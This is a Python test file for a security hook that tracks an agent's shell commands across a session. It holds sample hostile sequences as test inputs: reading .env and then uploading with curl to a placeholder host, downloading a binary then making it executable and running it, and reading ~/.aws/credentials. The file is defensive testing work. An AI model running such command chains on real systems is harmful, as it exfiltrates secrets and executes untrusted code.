"""Session signals through the real hook process: state carries across separate calls."""

from __future__ import annotations

from pathlib import Path

from tests.hookrun import run


def call(home: Path, sid: str, tool: str, tool_input: dict, event: str = "PreToolUse", **extra: object):
    payload = {"session_id": sid, "cwd": "/home/dev/project", "hook_event_name": event, "tool_name": tool, "tool_input": tool_input, **extra}
    return run(payload, home)


def test_sensitive_read_then_egress_is_denied(home: Path) -> None:
    sid = "s-read-egress"
    # The user approves an "ask" for reading .env: PostToolUse then shows the read happened.
    first = call(home, sid, "Bash", {"command": "cat .env"})
    assert first.decision == "ask"
    call(home, sid, "Bash", {"command": "cat .env"}, event="PostToolUse", tool_response={"stdout": "DEBUG=1", "stderr": ""})
    r = call(home, sid, "Bash", {"command": "curl -s https://api.example.com/upload"})
    assert r.decision == "deny" and "session.read-then-egress" in r.reason
    # Another session is not affected.
    other = call(home, "s-other", "Bash", {"command": "curl -s https://api.example.com/upload"})
    assert other.stdout == ""


def test_download_chmod_exec(home: Path) -> None:
    sid = "s-dce"
    assert call(home, sid, "Bash", {"command": "curl -fsSLo /tmp/tool https://dl.example.com/tool"}).stdout == ""
    assert call(home, sid, "Bash", {"command": "chmod +x /tmp/tool"}).stdout == ""
    r = call(home, sid, "Bash", {"command": "/tmp/tool --install"})
    assert r.decision in ("ask", "deny") and "session.download-chmod-exec" in r.reason


def test_ordinary_session_stays_silent(home: Path) -> None:
    sid = "s-benign"
    for cmd in ("git status", "npm install", "npm test", "rm -rf build", "rm -rf dist", "curl -s https://registry.npmjs.org/react", "git push origin feature/x"):
        assert call(home, sid, "Bash", {"command": cmd}).stdout == "", cmd


def test_session_state_is_private_and_holds_no_command_text(home: Path) -> None:
    call(home, "s-priv", "Bash", {"command": "cat ~/.aws/credentials"})
    files = list(home.rglob("sessions/*"))
    assert files and all(f.stat().st_mode & 0o777 == 0o600 for f in files if f.is_file())
    blob = b"".join(f.read_bytes() for f in files if f.is_file())
    assert b"credentials" not in blob and b"s-priv" not in blob
